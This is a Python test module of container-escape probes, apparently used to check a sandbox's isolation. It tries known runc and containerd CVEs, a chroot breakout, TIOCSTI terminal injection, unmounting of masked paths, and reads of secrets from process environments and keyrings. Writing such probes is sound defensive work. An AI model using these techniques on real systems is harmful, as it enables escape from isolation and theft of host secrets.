"""
Attacks, as programs of a container: one function each, which says what it has got hold of, or raises what kept it off.

Run inside, as `python3 -I -S -c TEXT JSON`, with the names of the attacks and what they may know of the host; it needs
nothing but the standard library. Each attack has a process of its own. Gates are tested and not gone through: what is
written is what is there already, and what is opened is not written to.
"""

import ctypes
import errno
import json
import mmap
import os
import socket
import stat
import sys
import tempfile
import time
from contextlib import suppress

SESSION_KEYRING = -3  # KEY_SPEC_SESSION_KEYRING of keyutils.h
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
TIOCSTI = 0x5412
MNT_DETACH = 2
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x00020000, 0x02000000, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


class NotThere(Exception):
    """What the attack looks for is not to be seen."""


def call(name, *arguments):
    """A function of the C library; raises its errno."""
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = getattr(libc, name)(*converted)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


# --- /proc ---


def open_program_of_init(_given):
    os.close(os.open("/proc/1/exe", os.O_RDONLY))
    return os.readlink("/proc/1/exe")


def overwrite_program_of_init(_given):
    """CVE-2019-5736. That it is being executed is all that the kernel has against it, once permissions are checked."""
    try:
        os.close(os.open("/proc/1/exe", os.O_WRONLY))
    except OSError as error:
        if error.errno != errno.ETXTBSY:
            raise
    return "may be written"


def look_into_init(_given):
    got = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]
    os.stat("/proc/1/root/etc")
    os.close(os.open("/proc/1/mem", os.O_RDONLY))
    return got


def read_environment_of_init(given):
    return _with_secret(["/proc/1/environ"], given)


def read_environment_of_all(given):
    return _with_secret([f"/proc/{name}/environ" for name in os.listdir("/proc") if name.isdecimal()], given)


def read_own_environment(given):
    return _with_secret(["/proc/self/environ"], given)


def _with_secret(paths, given):
    refused = None
    for path in paths:
        try:
            with open(path, "rb") as file:
                if given["secret"].encode() in file.read():
                    return path
        except OSError as error:
            refused = error
    raise refused or NotThere(paths)


def use_leaked_directory(given):
    """CVE-2024-21626: some descriptor leads to a directory of the host."""
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            os.fchdir(int(name))
            if _is_hosts_root(given):
                return os.listdir(".")
    raise NotThere("no descriptor leads to the host's root")


def be_in_leaked_directory(given):
    if not _is_hosts_root(given):
        raise NotThere(os.getcwd())
    return os.listdir(".")


def _is_hosts_root(given):
    found = os.stat(".")
    return [found.st_dev, found.st_ino] == given["root"]


# --- files of the kernel ---


def _read_some(path):
    with open(path, "rb", buffering=0) as file:
        if not file.read(1):
            raise NotThere(f"{path} is empty")
    return path


def read_kcore(_given):
    return _read_some("/proc/kcore")


def read_keys(_given):
    return _read_some("/proc/keys")


def read_timer_list(_given):
    return _read_some("/proc/timer_list")


def read_interrupts(_given):
    return _read_some("/proc/interrupts")


def _write_back(path):
    """Write what is there already."""
    with open(path, "rb", buffering=0) as file:
        there = file.read(4096)
    with open(path, "wb", buffering=0) as file:
        file.write(there or b"\n")
    return there.decode()


def write_core_pattern(_given):
    return _write_back("/proc/sys/kernel/core_pattern")


def write_sysctl(_given):
    return _write_back("/proc/sys/vm/swappiness")


def write_sysctl_of_own_network(_given):
    return _write_back("/proc/sys/net/ipv4/ip_forward")


def open_sysrq_trigger(_given):
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))


def write_setting_of_sysfs(_given):
    return _write_back("/sys/kernel/rcu_expedited")


# --- cgroups ---


def write_release_agent(given):
    """CVE-2022-0492."""
    with _CgroupTree("cgroup", given) as top:
        return _write_back(f"{top}/release_agent")


def rewrite_own_limit(given):
    """Its own pids.max, in a cgroup tree that it mounts for that."""
    return _rewrite_limit(given)


def rewrite_own_limit_in_user_namespace(given):
    """The same with the privileges that a new user namespace gives; it needs no ids there, being the owner anyway."""
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)
    return _rewrite_limit(given)


def _rewrite_limit(given):
    with open("/proc/self/cgroup") as file:
        lines = [line.rstrip("\n").split(":", 2) for line in file]
    own = next((path for _, controllers, path in lines if "pids" in controllers.split(",")), None)
    kind, own = ("cgroup2", lines[-1][2]) if own is None else ("cgroup", own)
    with _CgroupTree(kind, given) as top:
        path = f"{top}/{own}/pids.max"
        with open(path) as file:
            before = file.read()
        if before.strip() == "max":
            raise NotThere("no limit")
        with open(path, "w") as file:
            file.write("max")
        with open(path) as file:
            return f"{before.strip()} was rewritten as {file.read().strip()}"


class _CgroupTree:
    """The mounted tree of the pids controller of version 1, or that of version 2, as long as the block lasts."""

    def __init__(self, kind, given):
        self._at = tempfile.mkdtemp(dir="/tmp")
        # Those of version 2 are the tree's: whoever mounts it with others, outside of a cgroup namespace, changes them.
        options = "pids" if kind == "cgroup" else given["cgroup2"]
        call("mount", b"none", self._at.encode(), kind.encode(), 0, options.encode())

    def __enter__(self):
        return self._at

    def __exit__(self, *_exception):
        call("umount2", self._at.encode(), MNT_DETACH)


# --- devices ---


def make_device(_given):
    path = "/etc/kmsg-of-mine"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 11))
    os.close(os.open(path, os.O_WRONLY))
    return path


def open_device_of_volume(_given):
    """A node that a mounted directory has in it; no device that the container was given."""
    os.close(os.open("/volume/kmsg", os.O_WRONLY))


# --- sockets, terminals, keys ---


def connect_to_abstract_socket(given):
    """CVE-2020-15257."""
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect("\0" + given["abstract"])


def open_vsock(_given):
    socket.socket(socket.AF_VSOCK).close()


def push_into_terminal(_given):
    """CVE-2017-5226. Whoever reads from the terminal next will find it."""
    call("ioctl", 0, TIOCSTI, b"\n")


def read_key_of_the_session(given):
    """A key of whoever has started pysuper."""
    found = call("syscall", given["keyctl"], KEYCTL_SEARCH, SESSION_KEYRING, b"user", given["key"].encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    length = call("syscall", given["keyctl"], KEYCTL_READ, found, buffer, len(buffer))
    return buffer.raw[:length].decode()


# --- ways out of the root ---


def chroot_twice(given):
    """The classic: keep "/" open, chroot below it, go back to it, and walk up past where the root was."""
    top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/below", exist_ok=True)
    os.chroot("/tmp/below")
    os.fchdir(top)
    for _ in range(50):
        os.chdir("..")
        if _is_hosts_root(given):
            return os.listdir(".")
    os.chroot(".")
    raise NotThere(os.listdir("/"))


def unmount_root(given):
    """Take away the root that lies above the host's, and be in the host's."""
    own = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    call("umount2", b"/", MNT_DETACH)
    call("setns", own, CLONE_NEWNS)  # which begins at the root of the namespace
    if not _is_hosts_root(given):
        raise NotThere(os.listdir("/"))
    return os.listdir("/")


def unmount_masks(_given):
    """Undo what was hidden, or remount it."""
    for path in ("/proc/keys", "/proc/interrupts"):
        with suppress(OSError):
            call("umount2", path.encode(), MNT_DETACH)
            return path
    call("mount", None, b"/proc/sys", None, 32 | 4096, None)  # MS_REMOUNT, MS_BIND, and not MS_RDONLY
    return "/proc/sys"


# --- mounts that went astray ---


def find_mounts_elsewhere(_given):
    """What should have been mounted at a system directory is below /elsewhere."""
    top = "/elsewhere/proc" if os.path.exists("/elsewhere/proc/self") else "/proc"
    with open(f"{top}/self/mountinfo") as file:
        points = [line.split()[4] for line in file]
    found = [point for point in points if point.startswith("/elsewhere")]
    if not found:
        raise NotThere("/elsewhere")
    return found


def read_through_mask(_given):
    """CVE-2025-31133: what masks a file is a file of the attacker's choice."""
    with open("/proc/interrupts") as file:
        text = file.read()
    if "of the host" not in text:
        raise NotThere(text[:20])
    return text


def plant_link(_given):
    """Where another container's volume is to be, there is a link to what is none."""
    with open("/data/aim") as file:
        aim = file.read()
    os.rmdir("/data/inner")
    os.symlink(aim, "/data/inner")
    return aim


def read_volume(_given):
    """The volume shows a file of the host that nobody has given."""
    with open("/tmp/volume/secret") as file:
        return file.read()


# --- joining processes ---


def watch_for_joining(given):
    """
    CVE-2016-9962: open, as soon as it is seen, what each new process has, before it is the command that it will be.

    It says when it begins, and goes on until it has something, or until the command `sleep` has been seen so often.
    """
    known = set(os.listdir("/proc"))
    # A line longer than what the pipe holds would wait for its reader; this one is short.
    os.write(given["ready"], b"ready\n")
    deadline, seen, got = time.monotonic() + 20, 0, set()
    while not got and seen < given["joins"] and time.monotonic() < deadline:
        for name in set(os.listdir("/proc")) - known:
            if not name.isdecimal():
                continue
            while True:
                try:
                    with open(f"/proc/{name}/cmdline", "rb") as file:
                        command = file.read()
                except OSError:
                    break
                if command.startswith(b"sleep"):
                    seen += 1
                    known.add(name)
                    break
                got |= _what_can_be_had(name)
            known.add(name)
    if got:
        return sorted(got)
    raise NotThere(f"{seen} processes have been seen, and nothing of them could be opened")


def _what_can_be_had(pid):
    got = set()
    for name, get in {
        "exe": lambda: os.close(os.open(f"/proc/{pid}/exe", os.O_RDONLY)),
        "fd": lambda: os.listdir(f"/proc/{pid}/fd"),
        "root": lambda: os.stat(f"/proc/{pid}/root/"),
        "cwd": lambda: os.stat(f"/proc/{pid}/cwd/"),
        "environ": lambda: os.close(os.open(f"/proc/{pid}/environ", os.O_RDONLY)),
        "mem": lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)),
        "maps": lambda: os.close(os.open(f"/proc/{pid}/maps", os.O_RDONLY)),
    }.items():
        with suppress(OSError):
            get()
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if file.read().startswith(b"pysuper"):  # which it was when that was opened, and not yet the command
                    got.add(name)
    return got


# --- all of them ---


def attempt(name, given):
    """What comes of an attack, in a process of its own: whether it has succeeded, and what it says."""
    result = mmap.mmap(-1, 1 << 16)
    pid = os.fork()
    if pid == 0:
        try:
            outcome = (True, globals()[name](given))
        except (OSError, NotThere) as error:
            outcome = (False, f"{type(error).__name__}: {error}")
        except BaseException as error:
            outcome = (None, f"{type(error).__name__}: {error}")
        result.write(json.dumps(outcome).encode()[: 1 << 15])
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    text = result.read().rstrip(b"\0").decode()
    return json.loads(text) if status == 0 else [None, f"ended with {status}"]


if __name__ == "__main__":
    names, about = json.loads(sys.argv[1])
    print(json.dumps({name: attempt(name, about) for name in names}))
